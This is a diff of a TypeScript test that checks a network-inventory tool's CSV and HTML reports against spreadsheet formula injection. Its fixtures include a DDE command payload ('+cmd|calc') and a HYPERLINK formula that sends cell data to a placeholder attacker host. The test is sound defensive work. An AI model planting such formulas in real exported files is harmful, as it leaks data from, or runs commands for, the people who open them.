@@ -12,6 +12,7 @@ import { test } from 'node:test';
 import { parse } from 'csv-parse/sync';
 import { createAnalyzer, analyzeFile } from '../../src-main/engine/pipeline';
 import { toCsv } from '../../src-main/cli/format';
+import { renderHtmlReport } from '../../src-main/report/html';
 import { MAX_IDENTITY_VALUE, MAX_PER_LABEL } from '../../shared/inventory/identity';
 import type { DeviceJson, InventoryJson } from '../../shared/model/inventory';
 import { PCAPS, corpusAvailable } from '../helpers/corpus';
@@ -324,6 +325,15 @@ test('identity in CSV: chosen columns and the JSON cell are formula-safe', async
     assert.deepEqual(JSON.parse(dhcpRow.identity!).dhcp['host name'], ['+cmd|calc']);
     // No cell of any row starts as a formula.
     for (const r of rows) for (const v of Object.values(r)) assert.doesNotMatch(v, /^[=+\-@\t\r]/);
+
+    // The HTML report shows the same facts, escaped.
+    const html = renderHtmlReport(inv, { sources: [file] });
+    assert.ok(
+      html.includes(
+        'http user agent:</span> =HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;x&quot;)',
+      ),
+    );
+    assert.ok(!html.includes(ua));
   } finally {
     rmSync(dir, { recursive: true, force: true });
   }
